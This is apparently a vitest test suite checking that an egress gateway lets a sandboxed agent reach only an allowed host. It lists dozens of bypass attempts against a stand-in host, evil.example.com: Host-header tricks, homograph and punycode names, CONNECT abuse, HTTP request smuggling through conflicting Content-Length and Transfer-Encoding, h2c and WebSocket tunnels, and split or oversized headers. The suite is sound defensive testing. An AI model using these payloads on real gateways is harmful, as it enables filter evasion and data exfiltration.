import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attack, type Attempt, createAttack } from '../fixtures/attack.ts';

const good = `'good.example.com'`;
const evil = `'evil.example.com'`;
/** Sent to the gateway, and as the control straight to the outsider: the same bytes. */
function http(what: string, parts: string, more: Partial<Attempt> = {}): Attempt {
  return { what, code: `seen = tcp(WAY, 80, ${parts})`, ...more };
}
/** Hosts, as a request may write them; each contains the token. */
const hosts: Readonly<Record<string, readonly [text: string, reason?: string]>> = {
  plain: [`T + '.evil.example.com'`, 'not-listed'],
  'in capitals': [`T.upper() + '.EVIL.example.COM'`, 'not-listed'],
  'with a dot at its end': [`T + '.evil.example.com.'`, 'not-listed'],
  'with a port': [`T + '.evil.example.com:8080'`, 'not-listed'],
  'with a port that is none': [`T + '.evil.example.com:x'`],
  'with the good name before an at sign': [`'good.example.com@' + T + '.evil.example.com'`],
  'with the good name before a NUL': [`'good.example.com\\0' + T + '.evil.example.com'`],
  'with the good name before a space': [`'good.example.com ' + T + '.evil.example.com'`],
  'with the good name before a comma': [`'good.example.com,' + T + '.evil.example.com'`],
  'with the good name before a slash': [`'good.example.com/' + T + '.evil.example.com'`],
  'with the good name as its port': [`T + '.evil.example.com:good.example.com'`],
  'that only ends like the good name': [`T + 'good.example.com'`, 'not-listed'],
  'below the good name, with the dot escaped': [`T + '.evil.example.com%2egood.example.com'`],
  'with dots of another script': [`(T + '.evil。example。com').encode().decode('latin1')`],
  'with letters that look alike (homograph)': [`(T + '.gооd.example.com').encode().decode('latin1')`],
  'in punycode': [`T + '.xn--god-jua.example.com'`, 'not-listed'],
};
const written = Object.entries(hosts).map(([how, [text, recorded]]): Attempt =>
  http(`a Host ${how}`, `get(${text}, '/' + T)`, recorded === undefined ? {} : { recorded }),
);

const targets: readonly Attempt[] = [
  http('a URL of another host than Host', `get(${good}, 'http://' + T + '.evil.example.com/')`),
  http('a URL of another host than Host, HTTP/1.0', `get(${good}, 'http://' + T + '.evil.example.com/', '1.0')`),
  http('a URL of the good host, and another Host', `get(T + '.evil.example.com', 'http://good.example.com/')`),
  http('a URL with the good host as its user', `get(${good}, 'http://good.example.com@' + T + '.evil.example.com/')`),
  http('a URL of another scheme', `get(${good}, 'ftp://' + T + '.evil.example.com/')`),
  http('a line of HTTP/0.9', `'GET http://evil.example.com/' + T + '\\r\\n\\r\\n'`),
  http('no Host', `'GET /' + T + ' HTTP/1.0\\r\\n\\r\\n'`),
  http('two Hosts', `'GET /' + T + ' HTTP/1.1\\r\\nHost: good.example.com\\r\\nHost: evil.example.com\\r\\n\\r\\n'`),
  http('two Hosts, the good one last', `'GET /' + T + ' HTTP/1.1\\r\\nHost: evil.example.com\\r\\nHost: good.example.com\\r\\n\\r\\n'`),
  http('a folded Host', `'GET /' + T + ' HTTP/1.1\\r\\nHost: good.example.com\\r\\n evil.example.com\\r\\n\\r\\n'`),
  http('a Host with a space before its colon', `'GET /' + T + ' HTTP/1.1\\r\\nHost: good.example.com\\r\\nHost : evil.example.com\\r\\n\\r\\n'`),
  http('a Host with the end of its line bare', `'GET /' + T + ' HTTP/1.1\\nHost: good.example.com\\nHost: evil.example.com\\n\\r\\n\\r\\n'`),
  http(
    'other fields that name a host',
    `get(${good}, '/' + T, '1.1', 'GET', 'X-Forwarded-Host: evil.example.com', 'Forwarded: host=evil.example.com', 'X-Host: evil.example.com')`,
  ),
  http('CONNECT', `get('evil.example.com:443', T + '.evil.example.com:443', '1.1', 'CONNECT')`, { sees: /400|Blocked|^connected $/ }),
  http('CONNECT under a good Host', `get(${good}, T + '.evil.example.com:443', '1.1', 'CONNECT')`, { sees: /400|Blocked|^connected $/ }),
  http('CONNECT to the good host, then a request of another', `get('good.example.com:80', 'good.example.com:80', '1.1', 'CONNECT'), get(${evil}, '/' + T)`),
  http('CONNECT to an address', `get(VICTIM, VICTIM + ':80', '1.1', 'CONNECT'), get(${evil}, '/' + T)`),
];

/** A request within another, for a server that counts its bytes otherwise than the gateway. */
const inner = `get(T + '.evil.example.com', '/' + T)`;
function smuggle(what: string, fields: string, body: string): Attempt {
  return http(`smuggled ${what}`, `'POST / HTTP/1.1\\r\\nHost: good.example.com\\r\\n${fields}\\r\\n\\r\\n' + ${body}`);
}
const smuggled: readonly Attempt[] = [
  http('another host on a kept connection', `get(${good}), ${inner}`, { recorded: 'not-listed' }),
  http('another host, sent along at once', `get(${good}) + ${inner}`, { recorded: 'not-listed' }),
  smuggle('by Content-Length and chunks', 'Content-Length: 6\\r\\nTransfer-Encoding: chunked', `'0\\r\\n\\r\\n' + ${inner}`),
  smuggle('by chunks and Content-Length', 'Transfer-Encoding: chunked\\r\\nContent-Length: 4', `'5c\\r\\n' + ${inner} + '\\r\\n0\\r\\n\\r\\n'`),
  smuggle('by two Content-Lengths', 'Content-Length: 0\\r\\nContent-Length: 200', inner),
  smuggle('by a Content-Length with a sign', 'Content-Length: +0', inner),
  smuggle('by a coding that is none', 'Transfer-Encoding: xchunked', `'0\\r\\n\\r\\n' + ${inner}`),
  smuggle('by a folded coding', 'Transfer-Encoding:\\r\\n chunked', `'0\\r\\n\\r\\n' + ${inner}`),
  smuggle('by two codings', 'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity', `'0\\r\\n\\r\\n' + ${inner}`),
  smuggle('by a chunk with an extension and a bare end of line', 'Transfer-Encoding: chunked', `'0;x\\n\\r\\n' + ${inner}`),
  smuggle('by a chunk too long to count', 'Transfer-Encoding: chunked', `'fffffffffffffffff0\\r\\n' + ${inner}`),
  smuggle('in the body of an upgrade', 'Connection: Upgrade\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\\r\\nContent-Length: 0', inner),
];

const h2 = `b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0'`;
const socketFields = `'1.1', 'GET', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==', 'Sec-WebSocket-Version: 13'`;
const others: readonly Attempt[] = [
  http('WebSocket', `get(T + '.evil.example.com', '/', ${socketFields}), b'\\x81\\4' + T.encode()`, { recorded: 'not-listed' }),
  {
    what: 'WebSocket within TLS',
    code: `seen = tls(WAY, T + '.evil.example.com', get(T + '.evil.example.com', '/', ${socketFields}))`,
    ...{ sees: /Blocked by Forgehold/, recorded: 'not-listed' },
  },
  http('HTTP/2 in clear text', `${h2} + T.encode() + b'\\r\\n\\r\\n'`),
  http(
    'HTTP/2 by an upgrade',
    `get(T + '.evil.example.com', '/', '1.1', 'GET', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk'), ${h2}`,
    { recorded: 'not-listed' },
  ),
  http('TLS on port 80', `hello(T, server_names('evil.example.com'))`),
  http('a protocol of its own on port 80', `'SSH-2.0-' + T + '\\r\\n'`),
  http('a PROXY header', `'PROXY TCP4 10.1.1.1 ' + VICTIM + ' 1 80\\r\\n' + get(T + '.evil.example.com')`),
  http('a head in pieces', `'GE', 'T /' + T, ' HTTP/1.1\\r\\nHo', 'st: ev', 'il.example.com\\r\\n\\r\\n'`),
  http('a head of 200 kB', `get('evil.example.com', '/' + T, '1.1', 'GET', *['X%d: %s' % (n, 'y' * 1000) for n in range(200)])`),
];

let attack: Attack;
beforeAll(async () => {
  attack = await createAttack();
  await attack.run([...written, ...targets, ...smuggled, ...others]);
});
afterAll(() => attack?.end());

const what = ({ what }: Attempt): string => what;

describe('over HTTP, nobody but the allowed host is reached by', () => {
  it('(an allowed name works: the control of all that follows)', async () => {
    expect(await attack.test.run(attack.one, 'curl -s -m 10 http://good.example.com/control')).toBe('hello');
    expect((await attack.good.heard()).some(({ text }) => text.startsWith('GET /control'))).toBe(true);
  });
  it.each(written.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
  it.each(targets.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('a request is not', () => {
  it.each(smuggled.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('nothing else passes for HTTP:', () => {
  it.each(others.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('what remains', () => {
  it('an allowed WebSocket carries what is sent over it, to its own host only', async () => {
    const talk = `
import socket
s = socket.create_connection(('${attack.one.site.gatewayAddress}', 80), 10); s.settimeout(5)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')
print(s.recv(4096).split(b'\\r')[0].decode())
s.sendall(b'GET /within HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n')`;
    expect(await attack.python(attack.one.agent, talk)).toBe('HTTP/1.1 101 Switching Protocols');
    const heard = async (one: typeof attack.victim): Promise<boolean> => (await one.heard()).some(({ text }) => text.includes('/within'));
    await expect.poll(() => heard(attack.good)).toBe(true);
    expect(await heard(attack.victim)).toBe(false);
  });
});
